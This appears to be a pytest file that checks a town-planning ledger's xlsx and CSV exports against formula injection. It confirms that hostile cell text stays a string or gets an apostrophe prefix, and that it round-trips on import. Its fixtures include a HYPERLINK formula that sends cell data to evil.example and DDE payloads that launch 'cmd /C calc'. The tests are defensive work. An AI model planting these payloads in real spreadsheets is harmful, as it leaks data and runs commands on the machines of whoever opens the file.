"""Text a town typed never runs in the spreadsheet that opens an export: in .xlsx it is a
string cell, never a formula; in CSV it starts with an apostrophe (the OWASP rule) — and
importing the CSV back gives the text as it was. Checked on the files' own bytes."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest

import townplan as tp
from townplan.io import export_progress, export_register, import_register
from townplan.ledger import LedgerStore

EVIL = '=HYPERLINK("http://evil.example/?d="&A3,"点击查看")'
TEXTS = {
    "name": EVIL,
    "content": "+1+cmd|' /C calc'!A0",
    "leader": "@SUM(1+1)*cmd|' /C calc'!A0",
    "responsible_unit": "-2+3+cmd|' /C calc'!A0",
}
NOTE = "\t=1+1"


def hostile_ledger() -> LedgerStore:
    store = LedgerStore.open(":memory:")
    store.add_units([TEXTS["responsible_unit"]])
    store.add_projects(
        [
            tp.Project(
                code="P001",
                category=tp.Category.INFRASTRUCTURE,
                government_investment=tp.Money.parse("1200万"),
                **TEXTS,
            )
        ],
        on=date(2013, 1, 1),
    )
    store.record_progress(
        tp.ProgressReport(
            project="P001",
            period="2013-06",
            completed=tp.Money.parse("10万"),
            cumulative=tp.Money.parse("10万"),
            note=NOTE,
            reported_on=date(2013, 7, 3),
        )
    )
    return store


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        names = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        return "".join(z.read(n).decode() for n in names)


def xlsx_strings(path: Path) -> set[str]:
    """Every text the workbook holds: shared strings and inline strings, unescaped."""
    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml") and "xl/" in n)
    found = re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", xml)
    return {
        t.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
        for t in found
    }


@pytest.mark.parametrize("export", ["register", "progress"])
def test_xlsx_exports_hold_text_never_formulas(tmp_path: Path, export: str) -> None:
    path = tmp_path / f"{export}.xlsx"
    with hostile_ledger() as store:
        if export == "register":
            export_register(store, path)
            wanted = set(TEXTS.values())
        else:
            export_progress(store, path, "2013-06")
            wanted = {EVIL, NOTE}
    assert "<f>" not in sheet_xml(path) and "<f " not in sheet_xml(path)
    assert wanted <= xlsx_strings(path)


@pytest.mark.parametrize("export", ["register", "progress"])
def test_csv_exports_neutralise_and_read_back(tmp_path: Path, export: str) -> None:
    path = tmp_path / f"{export}.csv"
    with hostile_ledger() as store:
        if export == "register":
            export_register(store, path)
            wanted = set(TEXTS.values())
        else:
            export_progress(store, path, "2013-06")
            wanted = {EVIL, NOTE}
    cells = {c for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))) for c in row}
    for text in wanted:
        assert "'" + text in cells
        assert text not in cells
    if export == "register":
        with LedgerStore.open(":memory:") as again:
            import_register(again, path)
            project = again.project("P001")
            assert (project.name, project.content, project.leader) == (
                TEXTS["name"],
                TEXTS["content"],
                TEXTS["leader"],
            )
            assert project.responsible_unit == TEXTS["responsible_unit"]
